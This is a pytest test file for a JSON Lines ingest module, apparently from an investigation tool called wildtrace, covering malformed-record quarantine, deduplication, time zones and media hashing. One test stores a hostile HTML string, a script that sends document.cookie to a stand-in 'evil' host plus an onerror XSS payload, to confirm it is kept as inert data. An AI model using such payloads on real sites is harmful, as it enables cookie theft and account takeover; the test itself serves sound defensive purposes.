"""JSON Lines ingest: good records, every kind of bad record, duplicates, time zones."""

from __future__ import annotations

import base64
import json
from datetime import timedelta
from pathlib import Path

import pytest

from tests.ingest.conftest import post, write_jsonl
from wildtrace.ingest import ingest_records, read_quarantine
from wildtrace.model import MediaItem, Post, Transaction
from wildtrace.store import Store


def test_good_records_round_trip_with_their_time_zone(store: Store, tmp_path: Path, data_dir: Path) -> None:
    records = [post(i) for i in range(50)]
    result = ingest_records(store, write_jsonl(tmp_path / "posts.jsonl", records), data_dir=data_dir)
    assert (result.read, result.added, result.quarantined) == (50, 50, 0)
    back = store.get(Post, "p7")
    assert back is not None and back.text == records[7]["text"]
    assert back.posted_at is not None and back.posted_at.utcoffset() == timedelta(hours=8)
    assert back.posted_at.isoformat() == records[7]["posted_at"]
    assert back.content_hash and back.source == str(tmp_path / "posts.jsonl")


def test_malformed_records_are_quarantined_and_the_rest_goes_on(store: Store, tmp_path: Path,
                                                                data_dir: Path) -> None:
    junk = b"\xff\xfe\x00binary\x9c junk"
    lines = [
        post(1),
        '{"id": "broken", "platform": "wechat", "text": "unterminated',         # broken JSON
        {"id": "wt", "platform": "wechat", "text": "x", "posted_at": 12.5e99},  # wrong type (absurd epoch)
        {"id": "wt2", "platform": ["wechat"], "text": 42},                     # wrong types
        {"id": "missing", "text": "no platform"},                              # missing field
        junk,                                                                   # binary junk
        '["a", "list"]',                                                        # not an object
        {"id": "nul", "platform": "wechat", "text": "a\u0000b"},                # NUL inside text
        post(2),
    ]
    source = write_jsonl(tmp_path / "bad.jsonl", lines)
    result = ingest_records(store, source, data_dir=data_dir)
    assert (result.read, result.added, result.quarantined) == (9, 2, 7)
    assert store.count(Post) == 2
    entries = read_quarantine(result.quarantine_path)
    by_line = {e["line"]: e for e in entries}
    assert sorted(by_line) == [2, 3, 4, 5, 6, 7, 8]
    for entry in entries:
        assert entry["reason"].startswith(f"{source}:{entry['line']}:")
    assert "not JSON" in by_line[2]["reason"] and by_line[2]["raw"].startswith('{"id": "broken"')
    assert "field 'posted_at'" in by_line[3]["reason"]
    assert "field 'platform'" in by_line[4]["reason"] and "field 'text'" in by_line[4]["reason"]
    assert "field 'platform'" in by_line[5]["reason"] and "Field required" in by_line[5]["reason"]
    assert base64.b64decode(by_line[6]["raw_base64"]) == junk
    assert "JSON object" in by_line[7]["reason"]
    assert "field 'text'" in by_line[8]["reason"] and by_line[8]["record"]["text"] == "a\u0000b"


def test_huge_text_and_hostile_html_are_stored_as_data(store: Store, tmp_path: Path, data_dir: Path) -> None:
    huge = "象牙" * (5 * 1024 * 1024 // 2) + "end"  # 10 MB of UTF-8
    hostile = '<script>fetch("http://evil/"+document.cookie)</script><img src=x onerror=alert(1)>'
    source = write_jsonl(tmp_path / "odd.jsonl", [post(1, text=huge), post(2, text=hostile)])
    result = ingest_records(store, source, data_dir=data_dir)
    assert result.added == 2
    assert store.get(Post, "p1").text == huge
    assert store.get(Post, "p2").text == hostile


def test_reingest_adds_nothing_and_content_gives_a_stable_id(store: Store, tmp_path: Path, data_dir: Path) -> None:
    no_ids = [{k: v for k, v in post(i).items() if k != "id"} for i in range(10)]
    source = write_jsonl(tmp_path / "p.jsonl", no_ids + no_ids[:3])  # duplicates inside the file too
    first = ingest_records(store, source, data_dir=data_dir)
    assert (first.added, first.duplicates) == (10, 3)
    ids = {p.id for p in store.find(Post)}
    again = ingest_records(store, source, data_dir=data_dir)
    assert again.already_done and again.added == 0 and store.count(Post) == 10
    # the same records in another file (another batch) are recognised by content
    other = write_jsonl(tmp_path / "copy.jsonl", list(reversed(no_ids)))
    third = ingest_records(store, other, data_dir=data_dir)
    assert (third.added, third.duplicates) == (0, 10)
    assert {p.id for p in store.find(Post)} == ids
    edited = write_jsonl(tmp_path / "edited.jsonl", [{**no_ids[0], "text": "changed"}])
    assert ingest_records(store, edited, data_dir=data_dir).added == 1


def test_naive_timestamps_need_assume_tz(store: Store, tmp_path: Path, data_dir: Path) -> None:
    source = write_jsonl(tmp_path / "naive.jsonl", [post(1, posted_at="2026-03-14 23:30:00")])
    refused = ingest_records(store, source, data_dir=data_dir)
    assert refused.quarantined == 1 and "no time zone" in refused.errors[0]
    accepted = ingest_records(store, source, data_dir=data_dir, assume_tz="Asia/Shanghai")
    assert accepted.added == 1
    stamp = store.get(Post, "p1").posted_at
    assert stamp.utcoffset() == timedelta(hours=8) and stamp.hour == 23


def test_other_entities_ingest(store: Store, tmp_path: Path, data_dir: Path) -> None:
    rows = [{"id": "t1", "time": "2026-03-14T10:00:00Z", "payer": "wallet:a", "payee": "wallet:b", "amount": 500},
            {"id": "t2", "step": 3, "payer": "wallet:a", "payee": "bank:622", "amount": "12.5"},
            {"id": "t3", "payer": "wallet:a", "amount": 1}]
    result = ingest_records(store, write_jsonl(tmp_path / "tx.jsonl", rows), "transactions", data_dir=data_dir)
    assert (result.added, result.quarantined) == (2, 1)
    assert store.get(Transaction, "t2").amount == 12.5
    assert "payee" in result.errors[0]


def test_unknown_model_and_format_fail_clearly(store: Store, tmp_path: Path) -> None:
    source = write_jsonl(tmp_path / "p.jsonl", [post(1)])
    with pytest.raises(ValueError, match="unknown model"):
        ingest_records(store, source, "ivory")
    odd = tmp_path / "p.xlsx"
    odd.write_text("x")
    with pytest.raises(ValueError, match="--format"):
        ingest_records(store, odd)


def test_media_paths_name_the_blob_from_any_folder(store: Store, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """Ingest run in one folder with a relative data folder; the stored path still reads the image when
    screening runs in another folder."""
    run, elsewhere = tmp_path / "run", tmp_path / "elsewhere"
    (run / "media").mkdir(parents=True)
    elsewhere.mkdir()
    png = b"\x89PNG\r\n\x1a\n" + bytes(range(256))
    (run / "media" / "a.png").write_bytes(png)
    write_jsonl(run / "posts.jsonl", [post(1, media=["media/a.png"])])
    monkeypatch.chdir(run)
    ingest_records(store, "posts.jsonl", data_dir=".wildtrace")
    (sha,) = store.get(Post, "p1").media
    monkeypatch.chdir(elsewhere)
    item = store.get(MediaItem, sha)
    assert Path(item.path).is_absolute() and Path(item.path).read_bytes() == png
    assert Path(item.path).is_relative_to(run / ".wildtrace")


def test_media_paths_are_stored_by_hash(store: Store, tmp_path: Path, data_dir: Path) -> None:
    (tmp_path / "media").mkdir()
    png = b"\x89PNG\r\n\x1a\n" + bytes(range(256))
    (tmp_path / "media" / "a.png").write_bytes(png)
    source = write_jsonl(tmp_path / "posts.jsonl", [post(1, media=["media/a.png"]),
                                                    post(2, media=["media/missing.png"])])
    result = ingest_records(store, source, data_dir=data_dir)
    assert (result.added, result.quarantined, result.media_added) == (1, 1, 1)
    stored = store.get(Post, "p1")
    import hashlib

    sha = hashlib.sha256(png).hexdigest()
    assert stored.media == [sha]
    item = store.get(MediaItem, sha)
    assert item.mime == "image/png" and item.size == len(png) and Path(item.path).read_bytes() == png
    assert "media.0" in result.errors[0] and "missing.png" in result.errors[0]
    from wildtrace.model import Capture

    (capture,) = store.find(Capture, "payload_sha256 = ?", (sha,))
    assert capture.kind == "resource" and capture.url.endswith("/media/a.png") and capture.log_seq == 1
    again = write_jsonl(tmp_path / "again.jsonl", [post(3, media=["media/a.png"])])
    assert ingest_records(store, again, data_dir=data_dir).media_added == 0
    assert store.count(Capture) == 1  # the same image is preserved once
    assert json.loads(Path(result.quarantine_path).read_text())["record"]["media"] == ["media/missing.png"]


def test_stored_content_hash_is_the_hash_of_the_stored_post(store: Store, tmp_path: Path, data_dir: Path) -> None:
    from wildtrace.ingest import post_hash

    ingest_records(store, write_jsonl(tmp_path / "p.jsonl", [post(1), post(2, url="https://x.org/2")]),
                   data_dir=data_dir)
    for stored in store.find(Post):
        assert stored.content_hash == post_hash(stored)
